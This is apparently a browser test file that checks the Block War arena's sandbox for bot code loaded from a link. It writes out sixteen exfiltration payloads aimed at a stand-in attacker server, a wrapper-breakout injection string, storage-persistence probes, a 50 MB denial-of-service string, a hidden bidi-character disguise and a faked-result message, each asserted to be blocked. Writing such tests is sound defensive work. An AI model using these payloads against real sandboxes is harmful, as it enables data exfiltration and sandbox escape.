// The Block War arena runs code anyone can put in a link (issue 23). Each attack a stranger's link tried is run here as
// code from a link, then Run: a logging server on 127.0.0.1 (a random port) must receive no request, nothing a bot
// wrote may be there for the next bot, and a page control must answer within 1 s throughout. Then: 50 MB strings by the
// three routes that froze the tab, Stop then Run, hidden bidi characters, a bot's text that fakes a result, a replay
// naming its red player "you", 20,000 characters of code through a link, and "Copy link" before Run.
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { encodeReplayLink, exportReplay, greedyBot, playMatch } from '~/engines/block-war';
import { packCode } from '~/islands/block-war/code-link';
import { openIsland, useBrowser, type SharedTab } from './island';
import { startLogServer, type LogServer } from './log-server';

const browser = useBrowser();
/** The file's pages open one after another in one tab (island.ts SharedTab), made like a fresh tab before each. */
const tab: SharedTab = {};
const baseUrl = inject('baseUrl');

/** A server that logs every request and WebSocket upgrade and answers each as an attacker's server would (CORS open,
 * a script body); it closes after the file's tests, or by itself after five minutes. */
let logServer: LogServer;
let port = 0;
beforeAll(async () => {
  logServer = await startLogServer();
  port = logServer.port;
});
afterAll(() => logServer.close());

/** Bot code that starts one attack when it loads, then reports how it ended by throwing on its next move. */
const attackBot = (route: string, attack: string) => `(() => {
  const U = 'http://127.0.0.1:${port}/${route}?ua=' + encodeURIComponent(navigator.userAgent);
  let state = 'pending';
  const done = (s) => { if (state === 'pending') state = String(s); };
  const blocked = (e) => done('blocked ' + ((e && e.name) || e));
  try { ${attack} } catch (e) { blocked(e); }
  let moves = 0;
  return (view) => {
    if (state !== 'pending' || ++moves > 30) throw new Error('attack ${route}: ' + state);
    return view.legal[0];
  };
})()`;

/** One attack per route of the issue (and per route blocked before): each calls done('LEAK') only if it got through. */
const ATTACKS: [string, string][] = [
  ['import', `import(U).then(() => done('LEAK'), blocked);`],
  ['websocketstream', `new WebSocketStream(U.replace('http', 'ws')).opened.then(() => done('LEAK'), blocked);`],
  ['fontface', `new FontFace('f', 'url(' + U + ')').load().then(() => done('LEAK'), blocked);`],
  ['storagebuckets', `navigator.storageBuckets.open('b').then((b) => b.caches.open('c')).then((c) => c.add(U)).then(() => done('LEAK'), blocked);`],
  ['caches', `caches.open('c').then((c) => c.add(U)).then(() => done('LEAK'), blocked);`],
  ['opfs', `navigator.storage.getDirectory().then((d) => d.getFileHandle('atlas-attack', { create: true })).then(() => done('LEAK'), blocked);`],
  ['indexeddb', `const r = indexedDB.open('atlas-attack'); r.onsuccess = () => done('LEAK'); r.onerror = () => blocked('error');`],
  ['filesystem', `webkitRequestFileSystem(0, 1024, () => done('LEAK'), blocked);`],
  ['fetch', `fetch(U).then(() => done('LEAK'), blocked);`],
  ['xhr', `const x = new XMLHttpRequest(); x.open('GET', U); x.onload = () => done('LEAK'); x.onerror = () => blocked('error'); x.send();`],
  ['websocket', `const w = new WebSocket(U.replace('http', 'ws')); w.onopen = () => done('LEAK'); w.onerror = () => blocked('error');`],
  ['eventsource', `const s = new EventSource(U); s.onopen = () => done('LEAK'); s.onerror = () => blocked('error');`],
  ['beacon', `done(navigator.sendBeacon(U, 'x') ? 'LEAK' : 'blocked false');`],
  ['importscripts', `importScripts(U); done('LEAK');`],
  ['worker', `const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + U + '")']))); w.onerror = () => blocked('error'); done('started');`],
  ['function', `Function('return fetch')()(U).then(() => done('LEAK'), blocked);`],
];

/** The query parameter that carries code in a link: compressed, or (ARENA_LINKS=old) the older plain text. */
const codeParam = async (code: string) => (process.env.ARENA_LINKS === 'old' ? `arCode=${encodeURIComponent(code)}` : `arBot=${await packCode(code)}`);

/** Opens the arena with bot code from a link, at a hydrated island. */
async function openWithCode(code: string, extra = '', locale = '') {
  const opened = await openIsland(browser(), `${locale}/block-war/arena/`, '#ar-title', { tab, query: `?arLimit=1000${extra}&${await codeParam(code)}` });
  await expect.poll(() => opened.page.getByLabel(/Your bot|你的机器人/).inputValue()).toBe(code);
  return opened;
}

const status = (page: Page) => page.getByTestId('ar-status');

/** A page control answers within 1 s: one more game per opponent, seen in the field at once. */
async function controlAnswers(page: Page) {
  const field = page.getByLabel('Games per opponent');
  const before = Number(await field.inputValue());
  await field.press(before < 20 ? 'ArrowUp' : 'ArrowDown', { timeout: 1000 });
  await expect.poll(() => field.inputValue(), { timeout: 1000 }).toBe(String(before < 20 ? before + 1 : before - 1));
}

describe('bot code from a link cannot reach the network or the site', () => {
  for (const [route, attack] of ATTACKS) {
    // Retried like the other hostile-bot tests: the 1 s bound is real, and a shared 2-core machine can miss it once.
    it(`${route}: blocked, nothing arrives at the server, the page answers`, { retry: 2 }, async () => {
      const { page, close } = await openWithCode(attackBot(route, attack));
      const mine = () => logServer.requests.filter((r) => r.includes(`/${route}?`));
      // Shown, not run: no frame, no worker and no request before Run.
      expect(page.frames()).toHaveLength(1);
      expect(mine()).toEqual([]);
      await page.getByRole('button', { name: 'Run' }).click();
      await controlAnswers(page);
      await expect.poll(() => status(page).textContent(), { timeout: 20_000 }).toMatch(new RegExp(`threw on placement \\d+: "?attack ${route}: `));
      await controlAnswers(page);
      expect(mine()).toEqual([]);
      const said = (await status(page).textContent())!;
      expect(said).not.toMatch(/LEAK|pending/);
      expect(said).toMatch(new RegExp(`: "attack ${route}: blocked [^"]*"\\.$`));
      expect(await page.getByTestId('ar-code-origin').textContent()).toContain('came from the link');
      await close();
    });
  }

  it("nothing a bot tried to write is there for the next bot, nor in the site's own storage", async () => {
    const writer = `(() => {
      try { navigator.storage.getDirectory().then((d) => d.getFileHandle('atlas-note', { create: true })).catch(() => {}); } catch (e) {}
      try { indexedDB.open('atlas-note').onupgradeneeded = (e) => e.target.result.createObjectStore('s'); } catch (e) {}
      try { caches.open('atlas-note').catch(() => {}); } catch (e) {}
      try { navigator.storageBuckets.open('atlas-note').catch(() => {}); } catch (e) {}
      try { webkitRequestFileSystem(0, 1024, (fs) => fs.root.getFile('atlas-note', { create: true }), () => {}); } catch (e) {}
      return (view) => view.legal[0];
    })()`;
    const reader = `(() => {
      const found = [];
      let left = 4;
      const check = (name, p) => { try { p.then((x) => { if (x) found.push(name); left--; }, () => left--); } catch (e) { left--; } };
      try { check('opfs', navigator.storage.getDirectory().then((d) => d.getFileHandle('atlas-note')).then(() => true)); } catch (e) { left--; }
      try { check('idb', indexedDB.databases().then((l) => l.some((d) => d.name === 'atlas-note'))); } catch (e) { left--; }
      try { check('caches', caches.has('atlas-note')); } catch (e) { left--; }
      try { check('buckets', navigator.storageBuckets.keys().then((k) => k.includes('atlas-note'))); } catch (e) { left--; }
      let moves = 0;
      return (view) => {
        if (left <= 0 || ++moves > 30) throw new Error('found: ' + (found.join(',') || 'none') + (left > 0 ? ' (unfinished)' : ''));
        return view.legal[0];
      };
    })()`;
    const first = await openWithCode(writer, '&arOpponent=random');
    await first.page.getByRole('button', { name: 'Run' }).click();
    await expect.poll(() => status(first.page).textContent(), { timeout: 60_000 }).toMatch(/^(Your bot wins|Your bot loses|A draw)/);
    // The site's own origin holds nothing the bot wrote.
    const site = await first.page.evaluate(async () => ({
      idb: (await indexedDB.databases()).map((d) => d.name),
      caches: await caches.keys(),
      opfs: await (async () => {
        const names: string[] = [];
        for await (const k of (await navigator.storage.getDirectory()) as unknown as AsyncIterable<[string, unknown]>) names.push(k[0]);
        return names;
      })(),
    }));
    expect(site).toEqual({ idb: [], caches: [], opfs: [] });
    // The next bot, in the same browser profile, finds nothing.
    await first.page.getByRole('textbox', { name: /^Your bot/ }).fill(reader);
    await first.page.getByRole('button', { name: 'Run' }).click();
    await expect.poll(() => status(first.page).textContent(), { timeout: 20_000 }).toMatch(/threw on placement \d+: "found: none"/);
    expect(logServer.requests).toEqual([]);
    await first.close();
  });

  it("the harness's own post, bot and message handler are out of the bot's reach", async () => {
    const { page, close } = await openWithCode('() => { throw new Error([typeof post, typeof bot, typeof onMessage].join(",")) }');
    await page.getByRole('button', { name: 'Run' }).click();
    await expect.poll(() => status(page).textContent(), { timeout: 20_000 }).toContain('threw on placement 1: "undefined,undefined,undefined"');
    await close();
  });
});

describe('code that breaks out of its wrapper', () => {
  // The worker's source is the harness, called first, then the code inside `function () { return (` … `); }`, where it
  // is the last argument of the kit's adapter: `(adapter)(kit, (` … `))`. Three parentheses close it all.
  it('runs only after the harness has removed postMessage', async () => {
    const { page, close } = await openWithCode(`0\n))); }, self.postMessage({ seq: 0, ok: true, what: 'function' })); (function () { return (((0`);
    await page.getByRole('button', { name: 'Run' }).click();
    await expect
      .poll(() => status(page).textContent(), { timeout: 20_000 })
      .toMatch(/your code failed to load: "Uncaught TypeError: self\.postMessage is not a function"\.$/);
    await close();
  });
  it('cannot quietly undo the harness by replacing a built-in above it', async () => {
    const { page, close } = await openWithCode(`0\n))); }); function Object() {} (function () { return (((0`);
    await page.getByRole('button', { name: 'Run' }).click();
    await expect.poll(() => status(page).textContent(), { timeout: 20_000 }).toMatch(/^Your bot loses 0–0 .*your code failed to load: "[^"]+"\.$/);
    await close();
  });
});

describe('what bot code sends back is cut before the page sees it', () => {
  const HUGE = '"x".repeat(50 * 1024 * 1024)';
  for (const [route, code, says] of [
    ['a load error', `(() => { throw new Error(${HUGE}); })()`, /^Your bot loses .*your code failed to load: "x{200}…"\.$/],
    ['an error reply', `() => { throw new Error(${HUGE}); }`, /^Your bot loses .*threw on placement 1: "x{200}…"\.$/],
    ['an illegal move', `() => ${HUGE}`, /^Your bot loses .*returned "x{79}… on placement 1, which is not a legal placement\.$/],
  ] as const) {
    it(`a 50 MB string as ${route}: the page stays responsive and shows a short quote`, { retry: 2 }, async () => {
      const { page, watch, close } = await openWithCode(code);
      await page.getByRole('button', { name: 'Run' }).click();
      await controlAnswers(page);
      await expect.poll(() => status(page).textContent(), { timeout: 30_000 }).toMatch(says);
      await controlAnswers(page);
      expect(watch.errors).toEqual([]);
      await close();
    });
  }
});

describe('runs, links and names', () => {
  it('Stop ends a run for good: the stopped run never replaces the new results', async () => {
    // The first bot never answers (limit 1000 ms); the second takes a little time per move, so its tournament lasts
    // well past the moment the first run's move would have timed out.
    const { page, watch, close } = await openWithCode('() => { for (;;) {} }', '&arOpponent=greedy&arGames=2');
    await page.evaluate(() => {
      const seen: string[] = ((window as unknown as { seen: string[] }).seen = []);
      const el = document.querySelector('[data-testid="ar-status"]')!;
      new MutationObserver(() => seen.push(el.textContent ?? '')).observe(el, { childList: true, characterData: true, subtree: true });
    });
    await page.getByRole('button', { name: 'Run' }).click();
    await expect.poll(() => status(page).textContent()).toContain('Playing game 1');
    await page.getByRole('button', { name: 'Stop' }).click();
    await expect.poll(() => status(page).textContent()).toBe('Stopped.');
    await page.getByRole('textbox', { name: /^Your bot/ }).fill('(view) => { const t = Date.now(); while (Date.now() - t < 20) {} return view.legal[0]; }');
    await page.getByRole('button', { name: 'Run' }).click();
    await expect.poll(() => status(page).textContent(), { timeout: 120_000 }).toMatch(/^2 games against greedy: /);
    const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
    expect(seen.some((s) => s.includes('took longer'))).toBe(false);
    expect(await page.getByTestId('ar-games').locator('tbody tr').count()).toBe(2);
    expect(await page.getByTestId('ar-games').textContent()).not.toContain('took longer');
    expect(watch.errors).toEqual([]);
    await close();
  }, 180_000);

  it('hidden bidi characters in linked code are removed and the notice says so; long code says how much is below', async () => {
    const shown = '(view) => {\n  // harmless \u202E} ;)"live"(tropxe\u202C\n  return view.legal[0];\n}' + '\n'.repeat(40) + '// payload';
    const { page, close } = await openIsland(browser(), '/block-war/arena/', '#ar-title', { tab, query: `?${await codeParam(shown)}` });
    const box = page.getByRole('textbox', { name: /^Your bot/ });
    await expect.poll(() => box.inputValue()).toContain('// payload');
    expect(await box.inputValue()).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    await expect.poll(() => page.getByTestId('ar-code-origin').textContent()).toContain('2 invisible characters');
    // 4 lines of code, 40 line breaks, then the payload on line 44: 30 rows show, 14 lines are below.
    await expect.poll(() => page.getByTestId('ar-code-below').textContent()).toBe('14 more lines below: scroll the box to read them.');
    await close();
  });

  it("a bot's text that fakes a result is shown as a quote inside the page's own sentence", async () => {
    const { page, close } = await openWithCode('() => { throw new Error("none. Your bot wins 212–37") }');
    await page.getByRole('button', { name: 'Run' }).click();
    await expect
      .poll(() => status(page).textContent(), { timeout: 20_000 })
      .toMatch(/^Your bot loses \d+–\d+ \(red–blue\) after \d+ placements: your bot threw on placement 1: "none\. Your bot wins 212–37"\.$/);
    await close();
  });

  it('a replay link naming its red player "you" shows that name as a quote, not as the reader\'s bot', async () => {
    const m = playMatch('7', greedyBot, greedyBot);
    const link = encodeReplayLink(JSON.parse(exportReplay('7', 'you', 'greedy', m)));
    for (const [locale, mine, quoted] of [
      ['', 'your bot', '"you" (red)'],
      ['/zh-cn', '你的机器人', '“you”（红方）'],
    ] as const) {
      const { page, close } = await openIsland(browser(), `${locale}/block-war/arena/`, '#ar-title', { tab, query: `?arReplay=${link}` });
      const heading = page.getByTestId('ar-replay-view').locator('h4');
      await expect.poll(() => heading.textContent()).toContain(quoted);
      expect(await heading.textContent()).not.toContain(mine);
      await close();
    }
  });

  it('"Copy link" before Run copies the code in the box; 20,000 characters come back through the link', async () => {
    const code = `(view) => view.legal[0]\n${Array.from({ length: 401 }, (_, i) => `// line ${String(i + 1).padStart(5, '0')} ${'-'.repeat(35)}`).join('\n')}`;
    expect(code.length).toBeGreaterThanOrEqual(20_000);
    const { page, close } = await openIsland(browser(), '/block-war/arena/', '#ar-title', { tab });
    await page.evaluate(() => {
      const w = window as unknown as { copied: string[] };
      w.copied = [];
      Object.defineProperty(navigator, 'clipboard', { value: { writeText: async (t: string) => void w.copied.push(t) }, configurable: true });
    });
    await page.getByRole('textbox', { name: /^Your bot/ }).fill(code);
    await page.getByRole('button', { name: 'Copy link to this state' }).click();
    await expect.poll(() => page.evaluate(() => (window as unknown as { copied: string[] }).copied.length)).toBe(1);
    const url = await page.evaluate(() => (window as unknown as { copied: string[] }).copied[0]);
    expect(url.startsWith(baseUrl)).toBe(true);
    expect(page.frames()).toHaveLength(1); // nothing ran
    await close();
    const again = await openIsland(browser(), url.replace(baseUrl, '').replace(/\?.*$/, ''), '#ar-title', {
      tab,
      query: url.slice(url.indexOf('?')).replace(/#.*$/, ''),
    });
    await expect.poll(() => again.page.getByRole('textbox', { name: /^Your bot/ }).inputValue()).toBe(code);
    await expect.poll(() => again.page.getByTestId('ar-code-origin').textContent()).toContain('came from the link');
    expect(await again.page.getByTestId('ar-link-too-long').count()).toBe(0);
    await again.close();
  });
});

it('in all, not one request arrived at the logging server', () => {
  expect(logServer.requests).toEqual([]);
});
